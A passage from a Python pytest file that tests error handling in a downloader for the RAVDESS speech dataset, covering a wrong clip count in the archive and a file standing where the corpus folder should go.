    with pytest.raises(dl.DownloadError, match="holds 5 clips"):
        install_local(archive, tmp_path / "data")
    assert archive.exists()
    ravdess_zip(archive, clips())
    install_local(archive, tmp_path / "data")
    assert archive.exists()


def test_a_file_where_the_corpus_folder_goes_is_one_clear_error(tmp_path):
    (tmp_path / "ravdess").write_text("not a folder")
    archive = ravdess_zip(tmp_path / "mirror" / "Audio_Speech_Actors_01-24.zip", clips())
    sources = {"ravdess": {"archive_url": str(archive), "expected": len(RAVDESS_CLIPS)}}
    with pytest.raises(dl.DownloadError, match=r"ravdess: cannot write .*ravdess.*a file and a folder"):
        dl.download("ravdess", tmp_path, sources, **FAST)
